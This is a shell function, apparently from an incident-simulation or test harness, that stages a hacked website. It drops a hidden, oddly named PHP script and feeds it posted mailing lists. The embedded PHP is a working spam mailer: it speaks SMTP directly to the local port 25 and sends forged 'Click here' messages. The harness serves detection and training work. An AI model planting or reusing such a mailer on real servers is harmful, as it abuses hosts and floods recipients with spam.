# SPDX-License-Identifier: GPL-3.0-or-later
# A dropped script speaks SMTP to port 25 of its own server: no user is in the log, and PHP's mail() is not asked.

play_incident() {
  honest_traffic
  local script n id list='' path; script=$(hidden_place "$culprit")/$(odd_name).php path=${script#"$(root_of "$culprit")"}
  source_is website-hacked "$culprit" '' "$script" "$path"
  drop "$script" <<'END'
<?php
$s = fsockopen('127.0.0.1', 25); fgets($s);
$say = function ($line) use ($s) { fwrite($s, "$line\r\n"); do { $answer = fgets($s); } while ($answer[3] === '-'); };
$say('EHLO localhost');
foreach (explode("\n", trim($_POST['l'])) as $line) {
    [$to, $id, $from, $subject] = explode(';', $line);
    $say("MAIL FROM:<$from>"); $say("RCPT TO:<$to>"); $say('DATA');
    $say("From: <$from>\r\nTo: <$to>\r\nSubject: $subject\r\nMessage-ID: <$id>\r\n\r\nClick here\r\n.");
}
$say('QUIT');
echo 'OK';
END
  post_lists 1 "$culprit" "$path" "$((35 + $(roll 25)))" "$(pick 1 5 12)"
}
